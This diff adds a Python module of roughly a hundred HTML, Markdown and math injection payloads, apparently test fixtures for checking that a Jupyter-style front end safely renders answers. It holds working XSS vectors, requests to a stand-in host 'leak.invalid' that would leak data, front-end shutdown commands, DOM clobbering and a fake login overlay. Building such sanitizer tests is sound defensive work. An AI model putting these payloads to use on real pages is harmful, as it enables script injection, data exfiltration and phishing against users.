@@ -1,0 +1,135 @@
+"""Answers that attack the page which shows them, by the way in which they try.
+
+Each would set ``ran`` in the page, ask a host outside this machine for something, run a
+command of the front end, or change what stands outside the answer.
+"""
+
+RUN = "window.ran=(window.ran||[]).concat(1)"
+LEAK = "http://leak.invalid/x"
+_T = "`" * 3
+
+PAYLOADS: dict[str, str] = {
+    # Elements that run a script.
+    "script": f"<script>{RUN}</script>",
+    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT >",
+    "script from elsewhere": f'<script src="{LEAK}.js"></script>',
+    "script module": f'<script type="module">{RUN}</script>',
+    "broken script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
+    "image": f"<img src=x onerror={RUN}>",
+    "image, slashes": f"<img/src=x/onerror={RUN}>",
+    "image, no space": f'<img src="x"onerror="{RUN}">',
+    "image, never closed": f'<img src="x" onerror="{RUN}"',
+    "svg": f"<svg onload={RUN}>",
+    "svg script": f"<svg><script>{RUN}</script></svg>",
+    "svg animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
+    "svg use": "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x'/></svg>",
+    "svg foreign object": f"<svg><foreignObject><img src=x onerror={RUN}>",
+    "svg style": f"<svg><style><img src=x onerror={RUN}></style></svg>",
+    "mathml": (
+        "<math><mtext><table><mglyph><style><!--</style>"
+        f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
+    ),
+    "mathml link": f'<math><a xlink:href="javascript:{RUN}">x</a></math>',
+    "iframe": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    "iframe, javascript": f'<iframe src="javascript:parent.{RUN}"></iframe>',
+    "iframe, elsewhere": f'<iframe src="{LEAK}"></iframe>',
+    "object": f'<object data="{LEAK}"></object><embed src="{LEAK}">',
+    "details": f"<details open ontoggle={RUN}>x</details>",
+    "autofocus": f"<input autofocus onfocus={RUN}>",
+    "marquee": f"<marquee onstart={RUN}>x</marquee>",
+    "video": f"<video><source onerror={RUN}></video>",
+    "audio": f"<audio src=x onerror={RUN}></audio>",
+    "body": f"<body onload={RUN} onpageshow={RUN}>",
+    "animation": (
+        "<style>@keyframes x{from{color:red}}</style>"
+        f'<p style="animation:x 1s" onanimationstart="{RUN}">x</p>'
+    ),
+    "custom element": f"<x-y onclick={RUN} contenteditable autofocus>x</x-y>",
+    "template": f"<template><img src=x onerror={RUN}></template>",
+    "textarea": f"<textarea></textarea><img src=x onerror={RUN}></textarea>",
+    "title": f"<title><img src=x onerror={RUN}></title>",
+    "xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
+    "select": f"<select><option><img src=x onerror={RUN}></select>",
+    "table": f'<table background="{LEAK}"><tr><td background="{LEAK}" onclick={RUN}>x',
+    # Comments and odd markup, over which parsers disagree.
+    "comment": f"<!--><img src=x onerror={RUN}>-->",
+    "comment with a bang": f"<!-- --!><img src=x onerror={RUN}> -->",
+    "processing instruction": f"<?xml ?><img src=x onerror={RUN}>",
+    "cdata": f"<![CDATA[><img src=x onerror={RUN}>]]>",
+    "null byte": f"<img src=x one\x00rror={RUN}><scr\x00ipt>{RUN}</scr\x00ipt>",
+    "entities": "&lt;img src=x onerror=" + RUN + "&gt;",
+    "numeric entities": "&#60;img src=x onerror=" + RUN + "&#62;",
+    "double entities": "&amp;lt;script&amp;gt;" + RUN,
+    "wide characters": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
+    "control characters in a tag": f"<img\x0csrc=x\x0bonerror={RUN}>",
+    "nested forms": (
+        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>"
+    ),
+    "mutation by a table": f"<table><a><style><!--</style><img src=x onerror={RUN}>-->",
+    "placeholders of Markdown": f"\x02wzxhzdk:0\x03 <img src=x onerror={RUN}> \x02amp\x03",
+    # Links.
+    "link, javascript": f'<a href="javascript:{RUN}">x</a>',
+    "link, spaced javascript": f'<a href=" java\nscript:{RUN}">x</a>',
+    "link, entities": f'<a href="&#106;avascript:{RUN}">x</a>',
+    "link, vbscript": '<a href="vbscript:msgbox(1)">x</a>',
+    "link, data": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
+    "markdown link": f"[x](javascript:{RUN})",
+    "markdown link, capitals": f"[x](JaVaScRiPt:{RUN})",
+    "markdown link, entity": f"[x](&#106;avascript:{RUN})",
+    "markdown link, tab": f"[x](java\tscript:{RUN})",
+    "markdown link, angle": f"[x](<javascript:{RUN}>)",
+    "markdown link, reference": f"[x][r]\n\n[r]: javascript:{RUN}",
+    "markdown link, title": f'[x](http://a.invalid "\\" onmouseover={RUN} autofocus=\\"")',
+    "markdown link, data": f"[x](data:text/html,<script>{RUN}</script>)",
+    "autolink": f"<javascript:{RUN}>",
+    "link, ping": f'<a href="http://a.invalid" ping="{LEAK}">x</a>',
+    "link, same tab": '<a href="http://a.invalid" target="_top">x</a>',
+    # Fences.
+    "fence info": f'{_T}"><img src=x onerror={RUN}>\nx\n{_T}',
+    "fence info, attributes": f'{_T}{{.x onclick="{RUN}" style="color:red"}}\nx\n{_T}',
+    "fence info, class": f'{_T}python hl_lines="1" class="jp-Button"\nx\n{_T}',
+    "fence text": f"{_T}html\n</code></pre><img src=x onerror={RUN}>\n{_T}",
+    "fence text, unclosed": f"{_T}html\n</code></pre><script>{RUN}</script>",
+    "code span": f"`</code><img src=x onerror={RUN}>`",
+    # What leaves the machine without a script.
+    "remote image": f'<img src="{LEAK}.png">',
+    "remote image set": f'<img srcset="{LEAK}.png 1x">',
+    "remote image, markdown": f"![x]({LEAK}.png)",
+    "remote image, reference": f"![x][i]\n\n[i]: {LEAK}.png",
+    "remote image, protocol": "![x](//leak.invalid/x.png)",
+    "remote picture": f'<picture><source srcset="{LEAK}.png"><img></picture>',
+    "remote video": f'<video src="{LEAK}" poster="{LEAK}" autoplay></video>',
+    "remote style": f'<link rel="stylesheet" href="{LEAK}.css">',
+    "remote prefetch": f'<link rel="prefetch" href="{LEAK}"><link rel="icon" href="{LEAK}">',
+    "remote css": f"<style>@import url({LEAK}.css);body{{background:url({LEAK})}}</style>",
+    "remote inline css": f'<p style="background:url({LEAK})">x</p>',
+    "refresh": f'<meta http-equiv="refresh" content="0;url={LEAK}">',
+    "base": f'<base href="{LEAK}/"><img src="y.png">',
+    "form": f'<form action="{LEAK}"><button autofocus>Log in</button></form>',
+    "svg image": f'<svg><image href="{LEAK}.png"/></svg>',
+    "data image with a script": (
+        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)"
+    ),
+    # The page around the answer, and the front end's own hooks.
+    "overlay": '<div style="position:fixed;inset:0;z-index:9999">Log in again</div>',
+    "page style": "<style>body{display:none!important}</style>",
+    "command": (
+        '<button data-commandlinker-command="notebook:close-and-shutdown" '
+        'data-commandlinker-args="{}">x</button>'
+    ),
+    "command link": '<a data-commandlinker-command="help:about" href="#">x</a>',
+    "front end's classes": '<div class="jp-Dialog jp-mod-styled lm-Widget">x</div>',
+    "clobbered ids": (
+        '<p id="main"><a id="jupyterapp"></a><a id="jupyter-config-data">x</a>'
+    ),
+    "clobbered names": '<form name="jupyterapp"><input name="commands"></form>',
+    "footnote ids": f'x[^"><img src=x onerror={RUN}>]\n\n[^"><img src=x onerror={RUN}>]: y',
+    "attribute lists": f'x\n{{: #main .jp-Dialog onclick="{RUN}" }}',
+    "heading ids": f'# main {{#main onclick="{RUN}"}}',
+    "mathematics, link": f"$\\href{{javascript:{RUN}}}{{x}}$ \\(\\href{{{LEAK}}}{{y}}\\)",
+    "mathematics, html": f"$\\text{{<img src=x onerror={RUN}>}}$",
+    "mathematics, class": "$\\class{jp-Dialog}{x}\\cssId{main}{y}\\style{position:fixed}{z}$",
+    "mathematics, require": "$\\require{html}\\style{background:url(http://leak.invalid)}{x}$",
+    "right-to-left": f"\u202e<img src=x onerror={RUN}>\u202c",
+}
